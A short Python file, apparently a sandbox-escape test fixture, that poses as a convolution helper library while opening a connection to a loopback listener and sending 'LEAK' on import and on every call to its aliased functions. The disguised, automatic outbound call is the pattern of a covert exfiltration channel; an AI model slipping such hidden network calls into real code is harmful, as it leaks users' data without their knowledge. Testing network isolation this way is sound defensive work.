# Tries to reach a listener on the loopback interface (a stand-in for any server).
import socket


def _leak():
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as s:
            s.sendall(b"LEAK")
    except Exception:
        pass


_leak()


def conv_output_size(*a, **k):
    _leak()
    return None


conv_transpose_output_size = receptive_field = conv2d = separable_conv_params = conv_output_size
